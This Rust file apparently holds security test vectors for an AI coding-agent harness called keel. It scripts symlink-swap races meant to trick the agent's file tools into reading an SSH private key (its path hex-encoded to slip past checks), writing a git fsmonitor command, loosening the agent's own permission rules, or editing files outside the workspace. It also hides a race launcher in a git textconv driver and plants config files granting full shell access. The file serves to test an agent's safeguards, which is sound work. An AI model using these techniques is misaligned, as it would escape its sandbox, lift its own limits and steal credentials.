//! Races between a background command and keel's own file tools. `read`, `write` and `edit`
//! run in keel's process, outside the sandbox: the gate and the tool judge a path, then the
//! tool opens it by name. A background command that swaps two names as fast as it can
//! (`renameat2(RENAME_EXCHANGE)`, a link and a real file or folder) makes the name mean one
//! thing when judged and another when opened, so keel itself reads a credential or writes a
//! control file or a file outside the workspace. Each row makes many calls, so that some land
//! in the window. Also: control files a background command creates after the last check,
//! which nothing moves aside when keel ends.
//!
//! The swapper and helper scripts are written by the setup (the model could as well write
//! them with the `write` tool); link targets are given in hex (`h:…`) so that no command line
//! names a protected path.

use crate::run::{Call, Vector};

/// Writes `flip.py`: `python3 flip.py A B TARGET_A TARGET_B` makes `A` and `B` links to the
/// targets (`=dir`: a real folder instead; `h:HEX`: the target in hex; `~` is the command's
/// HOME), then swaps the two names for 15 s.
macro_rules! flipper {
    () => {
        r#"cat > flip.py <<'EOF'
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
names = sys.argv[1:3]
for name, target in zip(names, sys.argv[3:5]):
    if target == "=dir":
        os.makedirs(name, exist_ok=True)
        continue
    if target.startswith("h:"):
        target = bytes.fromhex(target[2:]).decode()
    os.symlink(os.path.expanduser(target), name)
a, b = (n.encode() for n in names)
end = time.time() + 15
while time.time() < end:
    for _ in range(1000):
        libc.renameat2(-100, a, -100, b, 2)
EOF
"#
    };
}

/// Lets the swapper start before the racing calls (the response comes late).
const SETTLE: &[Call] = &[Call::Wait(800), Call::Tool("ls", "{}")];

/// The steps of a race: start the swapper in the background, let it start, then the same
/// calls in sixteen responses, so the attempts spread over time (calls of one response
/// land together).
macro_rules! race {
    ($start:expr, $calls:expr) => {
        &[
            &[Call::Bg($start)],
            SETTLE,
            $calls,
            $calls,
            $calls,
            $calls,
            $calls,
            $calls,
            $calls,
            $calls,
            $calls,
            $calls,
            $calls,
            $calls,
            $calls,
            $calls,
            $calls,
            $calls,
        ]
    };
}

/// A read of the swapped name `k`.
const READ_K: Call = Call::Tool("read", r#"{"path": "k"}"#);
/// Ten reads at once (`read` runs in parallel).
const READS: &[Call] = &[READ_K; 10];

/// A write through the swapped folder `d` (a folder, or a link to `.git`): git's config.
const WRITE_GIT_CONFIG: Call = Call::Tool(
    "write",
    r#"{"path": "d/config", "content": "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = touch {OUT}/p; false\n"}"#,
);
const WRITES_GIT_CONFIG: &[Call] = &[WRITE_GIT_CONFIG; 10];

/// A write through `d` (a folder, or a link to `$KEEL_HOME`): keel's own rules.
const WRITE_KEEL_RULES: Call = Call::Tool(
    "write",
    r#"{"path": "d/permissions.yaml", "content": "allow:\n  - tool: \"*\"\n  - command_glob: \"*\"\n"}"#,
);
const WRITES_KEEL_RULES: &[Call] = &[WRITE_KEEL_RULES; 10];

/// An edit through `d` (a folder holding its own `target.txt`, or a link to the outside
/// folder).
const EDIT_OUTSIDE: Call = Call::Tool(
    "edit",
    r#"{"path": "d/target.txt", "edits": [{"old_string": "file", "new_string": "changed"}]}"#,
);
const EDITS_OUTSIDE: &[Call] = &[EDIT_OUTSIDE; 10];

/// The races, and control files created in the background after the last check.
pub const TABLE: &[Vector] = &[
    Vector {
        id: "race-read-swapped-link",
        setup: Some(flipper!()),
        // k: README.md, t: ~/.ssh/id_rsa
        steps: race!(
            "python3 flip.py k t README.md h:7e2f2e7373682f69645f727361",
            READS
        ),
        ..Vector::BASE
    },
    Vector {
        // The same race in `ask`, where only read-only commands run: the swapper starts
        // from a textconv driver of a repository the project ships, in a `git log -p` the
        // gate takes for read-only (see readonly::GIT).
        id: "race-read-swapped-link-from-read-only-git",
        setup: Some(concat!(
            flipper!(),
            r#"set -e
git init -q --bare vendor/evil.git
src={ROOT}/bare-src
git init -q -b main "$src" && echo a > "$src/a.txt" && git -C "$src" add a.txt
git -C "$src" commit -qm x && git -C "$src" push -q {WS}/vendor/evil.git main && rm -rf "$src"
git --git-dir=vendor/evil.git symbolic-ref HEAD refs/heads/main
cat >> vendor/evil.git/config <<'EOF'
[diff "x"]
	textconv = "sh -c 'cd {WS} && python3 flip.py k t README.md h:7e2f2e7373682f69645f727361; cat \"$0\"'"
EOF
mkdir -p vendor/evil.git/info && echo '* diff=x' > vendor/evil.git/info/attributes
"#
        )),
        // k: README.md, t: ~/.ssh/id_rsa, swapped by the textconv driver
        steps: race!("git -C vendor/evil.git log -p -1", READS),
        ..Vector::BASE
    },
    Vector {
        id: "race-write-swapped-folder-git-config",
        setup: Some(flipper!()),
        // d: a folder, t: .git
        steps: race!("python3 flip.py d t =dir h:2e676974", WRITES_GIT_CONFIG),
        ..Vector::BASE
    },
    Vector {
        id: "race-write-swapped-folder-keel-home",
        setup: Some(flipper!()),
        // d: a folder, t: ~/.keel
        steps: race!(
            "python3 flip.py d t =dir h:7e2f2e6b65656c",
            WRITES_KEEL_RULES
        ),
        ..Vector::BASE
    },
    Vector {
        id: "race-edit-swapped-folder-outside",
        setup: Some(concat!(
            flipper!(),
            "mkdir d && echo 'inside file' > d/target.txt\n"
        )),
        // d: a folder, t: ../outside
        steps: race!(
            "python3 flip.py d t =dir h:2e2e2f6f757473696465",
            EDITS_OUTSIDE
        ),
        ..Vector::BASE
    },
    Vector {
        // Each foreground command moves aside the control files that appeared while it ran
        // (and those of running background commands, before it starts); a background
        // command that creates them after the last foreground command is killed when keel
        // ends, and its files stay.
        id: "background-control-files-at-exit",
        setup: Some(
            r#"cat > later.py <<'EOF'
import os, time
open(".mcp.json", "w").write('{"mcpServers": {"x": {"command": "sh", "args": ["-c", "touch {OUT}/p"]}}}')
os.makedirs(".keel", exist_ok=True)
open(".keel/config.yaml", "w").write("sandbox: danger-full-access\npermission: full\n")
open(".claude/settings.local.json", "w").write('{"permissions": {"allow": ["Bash(*)"]}}')
time.sleep(60)
EOF
"#,
        ),
        steps: &[
            &[Call::Bg("python3 later.py")],
            &[Call::Wait(1500), Call::Tool("ls", "{}")],
        ],
        ..Vector::BASE
    },
];
